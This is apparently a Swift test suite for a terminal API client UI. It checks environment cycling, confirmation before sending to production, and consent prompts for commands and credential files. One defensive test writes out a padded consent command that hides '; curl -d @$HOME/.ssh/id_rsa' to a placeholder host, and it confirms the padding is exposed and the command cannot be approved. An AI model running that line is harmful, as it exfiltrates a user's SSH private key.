import APIClient
import Testing

@testable import APITerminalUI

/// `E` and the questions the session asks (command consent, prompted secrets), as pure state.
@Suite("Questions and environments")
struct QuestionAndEnvironmentKeyTests {
    static func state(environments: Bool = true, extra: String = "") throws -> AppState {
        let yaml =
            environments
            ? """
            name: t
            environments:
              dev: {base_url: "http://dev.test"}
              prod: {base_url: "http://prod.test"}
            \(extra)
            endpoints: {a: {path: /a}}
            """ : "name: t\nbase_url: http://x.test\nendpoints: {a: {path: /a}}\n"
        return AppState(profile: try Profile(yaml: yaml, file: "t.yaml"), columns: 120, rows: 40)
    }

    @Test func eCyclesThroughTheEnvironments() throws {
        var state = try Self.state()
        #expect(state.environment == "dev")
        // Production asks first.
        #expect(state.handle(.key(.character("E"))) == [])
        #expect(state.mode == .confirm)
        #expect(state.handle(.key(.character("y"))) == [.switchEnvironment("prod")])
        _ = state.handle(.environmentChanged(name: "prod", baseURL: "http://prod.test"))
        #expect(state.environment == "prod")
        #expect(state.handle(.key(.character("E"))) == [.switchEnvironment("dev")])

        var single = try Self.state(environments: false)
        #expect(single.handle(.key(.character("E"))) == [])
        #expect(single.message == "profile t declares no environments")
    }

    struct ConfirmCase: Sendable, CustomTestStringConvertible {
        let name: String
        /// Lines added under `environments:`.
        let environments: String
        /// Keys typed in that environment.
        let keys: String
        let sends: Bool
        var testDescription: String { name }
    }

    @Test(arguments: [
        ConfirmCase(name: "prod asks, y sends", environments: "", keys: "e<enter>y", sends: true),
        ConfirmCase(name: "prod asks, n does not send", environments: "", keys: "e<enter>n", sends: false),
        ConfirmCase(name: "prod asks, Esc does not send", environments: "", keys: "e<enter><esc>", sends: false),
        ConfirmCase(name: "other keys never answer", environments: "", keys: "e<enter>rErq/<esc>", sends: false),
        ConfirmCase(
            name: "confirm: false sends at once",
            environments: "  live: {base_url: \"http://live.test\", confirm: false}", keys: "e<enter>", sends: true),
        ConfirmCase(
            name: "confirm: true on another name asks",
            environments: "  qa: {base_url: \"http://qa.test\", confirm: true}", keys: "e<enter>n", sends: false),
    ])
    func sendingToAnEnvironmentThatConfirmsAsksFirst(_ testCase: ConfirmCase) throws {
        var state = try Self.state(extra: testCase.environments)
        let target =
            testCase.environments.contains("live") ? "live" : testCase.environments.contains("qa") ? "qa" : "prod"
        _ = state.handle(.environmentChanged(name: target, baseURL: "http://\(target).test"))
        var effects: [AppEffect] = []
        for key in Key.parse(testCase.keys) { effects += state.handle(.key(key)) }
        let sent = effects.contains { if case .send = $0 { true } else { false } }
        #expect(sent == testCase.sends, "\(effects)")
        #expect(!effects.contains { if case .switchEnvironment = $0 { true } else { false } }, "\(effects)")
        #expect(!state.hasQuit)
        #expect(state.mode == .normal)
    }

    @Test(arguments: [":cal", "/xy", "pda", "e"])
    func aQuestionWaitsForTheLineBeingTyped(_ opening: String) throws {
        var state = try Self.state()
        for key in Key.parse(opening) { state.handle(.key(key)) }
        let typing = state.mode
        let effects = state.handle(.ask(SecretQuestion(id: 3, kind: .consent(command: "pass x"), profile: "t")))
        #expect(effects.isEmpty && state.mode == typing)
        #expect(state.message?.contains("asks something") == true)
        // A `y` typed now is text of the line, never a yes.
        var typed: [AppEffect] = []
        for key in Key.parse("y") { typed += state.handle(.key(key)) }
        #expect(!typed.contains(.answer(id: 3, with: "yes")), "\(typed)")
        #expect(state.mode == typing)
        // Closing the line shows the question; only now does a key answer it.
        state.handle(.key(.escape))
        #expect(state.mode == .question)
        #expect(state.handle(.key(.character("n"))) == [.answer(id: 3, with: nil)])
        #expect(state.mode == .normal)
    }

    struct Case: Sendable, CustomTestStringConvertible {
        let name: String
        let kind: SecretQuestion.Kind
        let keys: String
        let answer: String?
        var testDescription: String { name }
    }

    @Test(arguments: [
        Case(name: "consent yes", kind: .consent(command: "pass x"), keys: "y", answer: "yes"),
        Case(name: "consent no", kind: .consent(command: "pass x"), keys: "n", answer: nil),
        Case(name: "consent escape", kind: .consent(command: "pass x"), keys: "<esc>", answer: nil),
        Case(
            name: "file consent yes", kind: .fileConsent(path: "/home/ada/.aws/credentials"), keys: "y", answer: "yes"),
        Case(name: "file consent no", kind: .fileConsent(path: "/home/ada/.aws/credentials"), keys: "n", answer: nil),
        Case(name: "secret typed", kind: .secret(label: "Code"), keys: "ab<bs>c<enter>", answer: "ac"),
        Case(name: "secret escape", kind: .secret(label: "Code"), keys: "abc<esc>", answer: nil),
    ])
    func questionsAreAnswered(_ testCase: Case) throws {
        var state = try Self.state()
        _ = state.handle(.ask(SecretQuestion(id: 7, kind: testCase.kind, profile: "t")))
        #expect(state.mode == .question)
        var effects: [AppEffect] = []
        for key in Key.parse(testCase.keys) { effects += state.handle(.key(key)) }
        #expect(effects == [.answer(id: 7, with: testCase.answer)])
        #expect(state.mode == .normal)
    }

    @Test func aCommandTooLongToShowCannotBeAllowed() throws {
        var state = try Self.state()
        let padded =
            "pass show acme/token" + String(repeating: " ", count: 120) + "; curl -d @$HOME/.ssh/id_rsa https://x"
        _ = state.handle(.ask(SecretQuestion(id: 1, kind: .consent(command: padded), profile: "t")))
        // The padding is shown as what it is.
        #expect(AppState.shown(padded) == "pass show acme/token [120 spaces] ; curl -d @$HOME/.ssh/id_rsa https://x")
        var narrow = try Self.state()
        _ = narrow.handle(.resize(columns: 60, rows: 24))
        _ = narrow.handle(.ask(SecretQuestion(id: 2, kind: .consent(command: padded), profile: "t")))
        #expect(narrow.handle(.key(.character("y"))) == [], "y cannot allow what the screen cannot show")
        #expect(narrow.handle(.key(.character("n"))) == [.answer(id: 2, with: nil)])
    }
}
